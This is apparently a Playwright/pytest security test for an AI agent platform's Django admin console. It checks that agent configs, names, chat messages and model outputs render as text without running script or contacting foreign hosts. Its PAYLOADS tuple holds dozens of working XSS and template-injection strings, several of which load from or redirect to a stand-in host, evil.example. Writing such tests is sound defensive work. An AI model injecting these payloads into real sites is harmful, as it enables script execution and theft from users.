"""What models, end users and tenants write is text in the console: no script runs, nothing is fetched."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page

from pages.conftest import Platform

PAYLOADS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</sCrIpT>",
    "<script src=https://evil.example/a.js></script>",
    "<img src=x onerror=window.hit=1>",
    "<img src=https://evil.example/a.png>",
    '"><img src=x onerror=window.hit=1>',
    "'><img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1/>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=https://evil.example/b>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<video src=x onerror=window.hit=1 autoplay></video>",
    "<audio src=https://evil.example/c autoplay></audio>",
    "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1>",
    "<textarea autofocus onfocus=window.hit=1>",
    "<marquee onstart=window.hit=1>x</marquee>",
    "<link rel=stylesheet href=https://evil.example/d.css>",
    "<style>@import 'https://evil.example/e.css'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<a href=javascript:window.hit=1>x</a>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<div x-data x-init='window.hit=1'>x</div>",
    "<div x-html=\"'<img src=x onerror=window.hit=1>'\">x</div>",
    "<div hx-get=https://evil.example/f hx-trigger=load>x</div>",
    "{{ 7|add:7 }}{% debug %}",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}`+window.hit=1+`",
    '" x-init="window.hit=1" y="',
    "' onmouseover='window.hit=1' x='",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "<!--><script>window.hit=1</script>-->",
    "<plaintext>",
)
POLICY = "Content Security Policy"


@pytest.fixture
def watched(new_context: Callable[..., BrowserContext], platform: Platform) -> Iterator[Page]:
    """A person in the console, whose browser must ask nobody but us and run nothing foreign.

    Nor try to: what our content policy stops should not have been there.
    """
    page = new_context().new_page()
    home = urlsplit(platform.base_url).netloc
    asked: set[str] = set()
    stopped: list[str] = []
    page.on("request", lambda request: asked.add(urlsplit(request.url).netloc))
    page.on("console", lambda told: stopped.append(told.text) if POLICY in told.text else None)
    page.goto("/admin/login/?next=/admin/")
    page.fill("#id_username", platform.admin["username"])
    page.fill("#id_password", platform.admin["password"])
    page.press("#id_password", "Enter")
    page.wait_for_url("**/admin/")
    yield page
    assert asked <= {"", home}
    assert not stopped


def look(page: Page, path: str) -> None:
    answer = page.goto(path)
    assert answer is not None and answer.status == 200, path
    page.wait_for_timeout(150)  # for what would run late
    assert page.evaluate("window.hit") is None, path
    assert page.locator("body").inner_text().strip()


def test_names_and_descriptions_are_text(platform: Platform, watched: Page) -> None:
    for number, payload in enumerate(PAYLOADS):
        config = {"provider": "scripted", "model": "echo", "instructions": payload, "greeting": payload}
        fields = {"name": f"{number} {payload}"[:100], "type": payload[:64], "description": payload}
        agent = platform.call("POST", "/api/v1/agents", {**fields, "config": config})
        look(watched, f"/admin/agents/agent/{agent['agent_id']}/change/")
    for path in (
        "/admin/agents/agent/?all=",
        "/admin/agents/agent/?q=%22%3E%3Cimg+src%3Dx+onerror%3Dwindow.hit%3D1%3E",
        "/admin/core/auditentry/",
        "/admin/",
    ):
        look(watched, path)


def test_messages_and_answers_are_text(platform: Platform, watched: Page) -> None:
    agent_id = platform.agent("echo").removeprefix("/chat/")
    body = {"agent_id": agent_id, "message": "\n".join(PAYLOADS), "user_info": {"user_id": PAYLOADS[4]}}
    sent = platform.call("POST", "/api/v1/chat/message", body)["result"]
    while platform.call("GET", f"/api/v1/chat/status/{sent['task_id']}")["result"]["output"] is None:
        watched.wait_for_timeout(50)
    look(watched, "/admin/conversations/session/")
    look(watched, f"/admin/core/task/{sent['task_id']}/change/")
    look(watched, "/admin/core/task/")
    look(watched, "/admin/core/usagerecord/")
    watched.goto("/admin/conversations/session/")
    watched.locator("#result_list a[href*='/change/']").first.click()
    watched.wait_for_timeout(150)
    assert watched.evaluate("window.hit") is None
    assert PAYLOADS[0] in watched.locator("body").inner_text()
